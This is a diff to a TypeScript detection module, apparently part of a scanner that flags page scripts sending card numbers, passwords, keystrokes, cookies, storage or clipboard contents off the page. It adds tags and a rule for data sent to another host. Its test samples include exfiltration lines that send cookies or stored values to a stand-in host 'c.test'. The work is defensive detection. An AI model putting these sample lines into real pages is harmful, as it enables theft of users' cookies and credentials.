@@ -1,6 +1,6 @@
-import { anyField, taint } from '../flow/taint.ts';
+import { anyField, sensitiveData, taint } from '../flow/taint.ts';
 import type { Feature } from './feature.ts';
-import { sends } from './finders.ts';
+import { sends, sendsTo } from './finders.ts';
 
 /** Data that leaves the page. None of these is malicious by itself: forms and analytics do the same. */
 export const dataflowFeatures: readonly Feature[] = [
@@ -8,6 +8,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'card-fields-sent',
     what: 'Sends what is typed into card fields',
     points: 60,
+    shows: ['taken'],
     find: sends(taint.cardName, anyField),
     samples: {
       matching: [
@@ -24,6 +25,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'passwords-sent',
     what: 'Sends what is typed into password fields',
     points: 45,
+    shows: ['taken'],
     find: sends(taint.passwordName, anyField),
     samples: {
       matching: [
@@ -36,6 +38,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'keys-sent',
     what: 'Sends pressed keys',
     points: 45,
+    shows: ['taken'],
     find: sends(taint.key),
     samples: {
       matching: [
@@ -48,6 +51,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'fields-sent',
     what: 'Sends what is typed into fields',
     points: 20,
+    shows: ['taken'],
     find: sends(anyField),
     samples: {
       matching: [`fetch('/search?q=' + document.getElementById('q').value);`],
@@ -58,6 +62,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'cookies-sent',
     what: 'Sends a part of the cookies',
     points: 12,
+    shows: [],
     find: sends(taint.cookie),
     samples: {
       matching: [`const id = /id=(\\w+)/.exec(document.cookie); fetch('/track?' + id[1]);`],
@@ -68,6 +73,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'all-cookies-sent',
     what: 'Sends all cookies unchanged',
     points: 30,
+    shows: ['taken'],
     find: sends(taint.wholeCookie),
     samples: {
       matching: [`new Image().src = '//c.test/?' + encodeURIComponent(document.cookie);`],
@@ -75,9 +81,25 @@ export const dataflowFeatures: readonly Feature[] = [
     },
   },
   {
+    id: 'sent-to-other-host',
+    what: 'Sends such data to another host that it names or hides',
+    points: 2,
+    shows: ['destination'],
+    find: sendsTo(['foreign', 'hidden'], sensitiveData),
+    samples: {
+      matching: [`fetch('https://c.test/?' + localStorage.getItem('id'));`],
+      other: [
+        `fetch('/c?' + localStorage.getItem('id'));`,
+        `fetch(settings.url + localStorage.getItem('id'));`,
+        `fetch('https://c.test/?' + navigator.language);`,
+      ],
+    },
+  },
+  {
     id: 'storage-sent',
     what: 'Sends data from the browser storage',
     points: 12,
+    shows: [],
     find: sends(taint.storage),
     samples: {
       matching: [`fetch('/sync', { body: localStorage.getItem('cart') });`],
@@ -88,6 +110,7 @@ export const dataflowFeatures: readonly Feature[] = [
     id: 'clipboard-sent',
     what: 'Sends the clipboard',
     points: 40,
+    shows: ['taken'],
     find: sends(taint.clipboard),
     samples: {
       matching: [
